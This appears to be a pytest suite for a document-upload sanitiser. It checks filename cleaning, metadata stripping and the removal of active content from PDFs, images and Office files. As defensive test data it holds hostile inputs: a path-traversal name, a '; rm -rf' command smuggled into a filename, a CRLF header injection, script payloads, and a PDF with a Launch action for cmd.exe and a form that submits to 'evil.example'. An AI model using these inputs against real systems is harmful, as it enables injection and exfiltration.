"""The one road of uploads: what is refused and why, and what is left of what is taken."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from homeward.apps.core.documents.names import split_name
from homeward.apps.core.documents.receiving import Received, receive
from homeward.apps.core.documents.refusing import Unfit
from homeward.apps.core.refusals import present
from tests.apps.core.hostile_uploads import (
    EXCEL,
    WORD,
    Hostile,
    external,
    hostile_uploads,
    rezip,
    word,
    workbook,
)
from tests.signing import pdf_bytes, picture_bytes

CASES = list(hostile_uploads())


def taken(data: bytes, name: str, declared: str = "") -> Received:
    return receive(name=name, declared=declared, data=data)


def test_there_are_many_and_each_is_named_once() -> None:
    assert len(CASES) >= 120
    assert len({case.words for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.words)
def test_a_hostile_file_is_refused_with_its_reason_and_a_remedy(case: Hostile) -> None:
    with pytest.raises(Unfit) as unfit:
        taken(case.data, case.name, case.declared)
    assert unfit.value.reason.code == case.code
    sentence = present(unfit.value.reason)
    assert sentence.fact and sentence.lift and sentence.who


# Names ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\robin\\Desktop\\plan.pdf", "plan.pdf"),
        ("/abs/olute.pdf", "olute.pdf"),
        (".hidden.pdf", "hidden.pdf"),
        ("a<b>:\"c|d?*.pdf", "a b c d.pdf"),
        ("CON.pdf", "document.pdf"),
        ("com1.pdf", "document.pdf"),
        ("....pdf", "document.pdf"),
        ("\u202eReport\u200b.pdf", "Report.pdf"),
        ("Te Ara Māori – plan.pdf", "Te Ara Māori – plan.pdf"),
        ("x" * 300 + ".PDF", "x" * 100 + ".pdf"),
        ("v1.2 final.pdf", "v1.2 final.pdf"),
        ("line\r\nSet-Cookie: a=b.pdf", "lineSet-Cookie a=b.pdf"),
        ("; rm -rf %00.pdf", "rm -rf 00.pdf"),
    ],
)  # fmt: skip
def test_a_name_is_cleaned_for_showing(name: str, kept: str) -> None:
    assert taken(pdf_bytes(), name).filename == kept


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_no_name_leaves_its_folder_or_breaks_a_header(name: str) -> None:
    try:
        stem, ending = split_name(name)
    except Unfit:
        return
    assert stem and not set(stem) & set('/\\<>:"|?*\r\n\0') and not stem.startswith(".") and len(stem) <= 100
    assert ending == ending.lower()


@pytest.mark.parametrize(
    "declared", ["", "application/octet-stream", "application/pdf", "Application/PDF; x=1"]
)
def test_what_a_sender_may_say_of_a_pdf(declared: str) -> None:
    assert taken(pdf_bytes(), "a.pdf", declared).type.code == "pdf"


# Pictures ---------------------------------------------------------------------------------------------


def with_exif(form: str, *, turned: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x9003] = turned, "Secret camera", "2026:01:02 03:04:05"
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "S", (34.0, 55.0, 43.0), "E", (138.0, 36.0, 2.0)
    out = io.BytesIO()
    Image.new("RGB", (60, 30), "white").save(
        out, form, exif=exif, **({"comment": b"secret words"} if form == "JPEG" else {})
    )
    return out.getvalue()


@pytest.mark.parametrize(("form", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp")])
def test_place_camera_and_date_are_taken_out_of_a_picture(form: str, name: str) -> None:
    kept = taken(with_exif(form), name)
    assert b"Secret" not in kept.content and b"secret" not in kept.content and b"2026:01" not in kept.content
    picture = Image.open(io.BytesIO(kept.content))
    assert picture.format == form and len(picture.getexif()) == 0
    assert "the place where it was taken (GPS)" in kept.removed
    assert taken(kept.content, name).removed == ()


@pytest.mark.parametrize("turned", [3, 6, 8])
def test_a_turned_picture_is_turned_before_the_note_about_it_goes(turned: int) -> None:
    picture = Image.open(io.BytesIO(taken(with_exif("JPEG", turned=turned), "a.jpg").content))
    assert picture.size == ((60, 30) if turned == 3 else (30, 60))


@pytest.mark.parametrize(
    "behind", [pdf_bytes(), b"<script>alert(1)</script>" * 3, bytes(5_000) + b"PK\x03\x04" + bytes(40)]
)
@pytest.mark.parametrize(("form", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
def test_what_hides_behind_a_picture_goes(form: str, name: str, behind: bytes) -> None:
    kept = taken(picture_bytes(form) + behind, name)
    assert behind[-60:] not in kept.content
    assert b"script" not in kept.content and b"%PDF" not in kept.content and b"PK\x03\x04" not in kept.content


def test_text_inside_a_picture_goes() -> None:
    from PIL.PngImagePlugin import PngInfo

    note = PngInfo()
    note.add_text("Author", "Somebody Known")
    note.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>editor</x:xmpmeta>")
    kept = taken(picture_bytes("PNG", pnginfo=note), "a.png")
    assert b"Somebody" not in kept.content and b"xmp" not in kept.content
    assert {"comments", "editing data (XMP)"} & set(kept.removed)


def test_of_an_animation_the_first_picture_is_kept() -> None:
    frames = [Image.new("RGB", (20, 20), c) for c in ("red", "green", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    kept = taken(out.getvalue(), "a.png")
    assert getattr(Image.open(io.BytesIO(kept.content)), "n_frames", 1) == 1
    assert "2 further pictures of an animation or a set" in kept.removed


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_comes_through(mode: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (9, 7)).save(out, "PNG")
    assert Image.open(io.BytesIO(taken(out.getvalue(), "a.png").content)).size == (9, 7)


def test_a_picture_for_the_press_is_shown_on_screens() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (9, 7)).save(out, "JPEG")
    assert Image.open(io.BytesIO(taken(out.getvalue(), "a.jpg").content)).mode == "RGB"


# PDF --------------------------------------------------------------------------------------------------


def loaded_pdf() -> bytes:
    """A PDF with nearly everything that a PDF can carry besides its pages."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(100, 100))
    pdf.docinfo["/Author"] = "Somebody Known"
    with pdf.open_metadata() as xmp:
        xmp["dc:creator"] = ["Somebody Known"]
    pdf.attachments["payload.exe"] = b"MZ payload"
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = pikepdf.Dictionary(WC=script)
    pdf.Root.Names["/JavaScript"] = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    annotations = [
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], Contents="payload"),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
                           A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
                           A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="javascript:alert(1)")),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9],
                           A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://homeward.example/")),
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9],
                           AA=pikepdf.Dictionary(K=script), A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")),
    ]  # fmt: skip
    held = [pdf.make_indirect(a) for a in annotations]
    page.obj.Annots = pdf.make_indirect(pikepdf.Array(held))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([held[-1]]), XFA=pikepdf.String("<xfa/>"))
    page.obj.PieceInfo = pikepdf.Dictionary(App="Somebody Known")
    photo = pdf.make_stream(with_exif("JPEG"))
    photo.Type, photo.Subtype, photo.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 60, 30, pikepdf.Name.DeviceRGB, 8
    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=photo))
    page.obj.Contents = pdf.make_stream(b"q 60 0 0 30 0 0 cm /I Do Q")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def everything_in(data: bytes) -> str:
    """Every object of a PDF unpacked, as text."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        texts = []
        for thing in pdf.objects:
            texts.append(repr(thing))
            if isinstance(thing, pikepdf.Stream):
                raw = thing.read_raw_bytes() if thing.get("/Filter") == "/DCTDecode" else thing.read_bytes()
                texts.append(raw.decode("latin-1"))
        return "\n".join([*texts, repr(pdf.trailer)])


def test_a_pdf_keeps_its_pages_and_loses_what_runs_tells_or_carries() -> None:
    before, kept = everything_in(loaded_pdf()), taken(loaded_pdf(), "a.pdf")
    after = everything_in(kept.content)
    for word_ in ("Somebody", "payload", "JavaScript", "alert", "Launch", "SubmitForm", "EmbeddedFile", "OpenAction", "Secret",
                  "/AA", "PieceInfo", "Metadata", "evil.example"):  # fmt: skip
        assert word_ in before, word_
        assert word_ not in after, word_
    assert "https://homeward.example/" in after and "/I Do" in after
    assert len(pikepdf.open(io.BytesIO(kept.content)).pages) == 1
    for words in ("attached files", "a script", "what it does when opened", "author, program and dates (properties)",
                  "editing data (XMP)", "in a picture: camera, dates, place (EXIF)"):  # fmt: skip
        assert words in kept.removed


def test_cleaning_a_second_time_changes_nothing() -> None:
    for name, data in (("a.pdf", loaded_pdf()), ("a.docx", word()), ("a.xlsx", workbook())):
        once = taken(data, name)
        twice = taken(once.content, name)
        assert twice.content == once.content and twice.removed == ()


def test_bytes_behind_a_pdf_go() -> None:
    kept = taken(pdf_bytes() + b"\n" + zip_of(b"payload"), "a.pdf")
    assert b"PK\x03\x04" not in kept.content and b"payload" not in kept.content


def zip_of(content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("x", content)
    return out.getvalue()


def test_the_houses_own_papers_come_through_unchanged_in_what_they_say() -> None:
    """A tagged PDF keeps its tags and its language: cleaning must not make it unreadable for a screen reader."""
    from homeward.web import papers

    data = papers.paper(
        title="Paper", caption="c", running="r", version="1", date=dt.date(2026, 7, 1),
        sections=[papers.section("One", [papers.text("Words of a paper")])],
    )  # fmt: skip
    kept = taken(papers.compile_paper("paper", data), "a.pdf")
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert (
            pdf.Root.MarkInfo.Marked and "/StructTreeRoot" in pdf.Root and str(pdf.Root.Lang).startswith("en")
        )


# Office -----------------------------------------------------------------------------------------------


def test_properties_and_thumbnail_of_an_office_file_go_and_it_still_opens() -> None:
    book = openpyxl.Workbook()
    book.properties.creator = book.properties.lastModifiedBy = "Somebody Known"
    book.active["A1"] = "kept"  # type: ignore[index]
    out = io.BytesIO()
    book.save(out)
    rels = zipfile.ZipFile(out).read("_rels/.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="t" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" '
        b'Target="docProps/thumbnail.jpeg"/></Relationships>',
    )  # fmt: skip
    dressed = rezip(out.getvalue(), {"_rels/.rels": rels, "docProps/thumbnail.jpeg": picture_bytes("JPEG")})
    kept = taken(dressed, "a.xlsx", EXCEL)
    with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
        everything = b"".join(package.read(n) for n in package.namelist())
        assert b"Somebody" not in everything and b"thumbnail" not in everything
        assert {i.date_time for i in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert openpyxl.load_workbook(io.BytesIO(kept.content)).active["A1"].value == "kept"  # type: ignore[index]
    assert "a thumbnail of an earlier state" in kept.removed


def test_the_place_of_a_picture_inside_an_office_file_goes() -> None:
    kept = taken(word({"word/media/image1.jpeg": with_exif("JPEG")}), "a.docx", WORD)
    with zipfile.ZipFile(io.BytesIO(kept.content)) as package:
        assert b"Secret" not in package.read("word/media/image1.jpeg")
    assert "in a picture: the place where it was taken (GPS)" in kept.removed


def test_a_link_that_a_reader_clicks_stays() -> None:
    for target in ("https://homeward.example/", "mailto:a@homeward.example"):
        assert taken(word(rels=external("hyperlink", target)), "a.docx", WORD)


@pytest.mark.parametrize("formula", ["=SUM(A2:A9)", '=HYPERLINK("https://homeward.example","x")', "=A1*2"])
def test_ordinary_formulas_stay(formula: str) -> None:
    assert taken(workbook(formula), "a.xlsx", EXCEL)


# Text -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell", ["-5", "+61 8 1234 5678", "-12.50", "- a dash", "-", "5%", "a=b", "x@y.example"]
)
def test_ordinary_cells_of_a_csv_stay(cell: str) -> None:
    assert taken(f"a,b\n1,{cell}\n".encode(), "a.csv", "text/csv").type.code == "csv"


def test_the_mark_in_front_of_a_text_goes() -> None:
    assert taken(b"\xef\xbb\xbfwords", "a.txt").content == b"words"


# Whatever comes ---------------------------------------------------------------------------------------

_ENDINGS = ["pdf", "png", "jpg", "webp", "docx", "xlsx", "heic", "txt", "csv"]
_STARTS = [
    b"",
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff\xe0",
    b"RIFF\x10\0\0\0WEBP",
    b"PK\x03\x04",
    b"\0\0\0\x18ftypheic",
]


@settings(max_examples=250, deadline=None)
@given(
    st.sampled_from(_STARTS),
    st.binary(max_size=400),
    st.sampled_from(_ENDINGS),
)
def test_any_bytes_are_taken_or_refused_in_words(start: bytes, rest: bytes, ending: str) -> None:
    try:
        taken(start + rest, f"a.{ending}")
    except Unfit as unfit:
        assert present(unfit.reason).lift


@settings(max_examples=120, deadline=None)
@given(st.data(), st.sampled_from(["pdf", "png", "jpg", "docx", "xlsx"]))
def test_any_changed_byte_of_a_good_file_is_taken_or_refused_in_words(
    data: st.DataObject, ending: str
) -> None:
    content = bytearray(GOOD[ending])
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    try:
        taken(bytes(content), f"a.{ending}")
    except Unfit as unfit:
        assert present(unfit.reason).lift


GOOD: dict[str, bytes] = {
    "pdf": loaded_pdf(), "png": picture_bytes(), "jpg": with_exif("JPEG"), "docx": word(), "xlsx": workbook(),
}  # fmt: skip


# The scanner ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "code"),
    [
        ("exit 0", ""),
        ("exit 1", "upload.infected"),
        ("exit 2", "upload.not_scanned"),
        ("kill -9 $$", "upload.not_scanned"),
    ],
)
def test_a_scanner_is_asked_when_there_is_one(script: str, code: str, tmp_path: Path, settings: Any) -> None:
    seen = tmp_path / "seen"
    program = tmp_path / "scan"
    program.write_text(f"#!/bin/sh\ncat > {seen}\n{script}\n")
    program.chmod(0o700)
    settings.DOCUMENT_SCAN_COMMAND = str(program)
    data = pdf_bytes()
    if code:
        with pytest.raises(Unfit) as unfit:
            taken(data, "a.pdf")
        assert unfit.value.reason.code == code
    else:
        taken(data, "a.pdf")
    assert seen.read_bytes() == data  # what was sent, not what is kept


def test_a_scanner_that_is_not_there_lets_nothing_pass(settings: Any) -> None:
    settings.DOCUMENT_SCAN_COMMAND = "/nowhere/scanner"
    with pytest.raises(Unfit) as unfit:
        taken(pdf_bytes(), "a.pdf")
    assert unfit.value.reason.code == "upload.not_scanned"
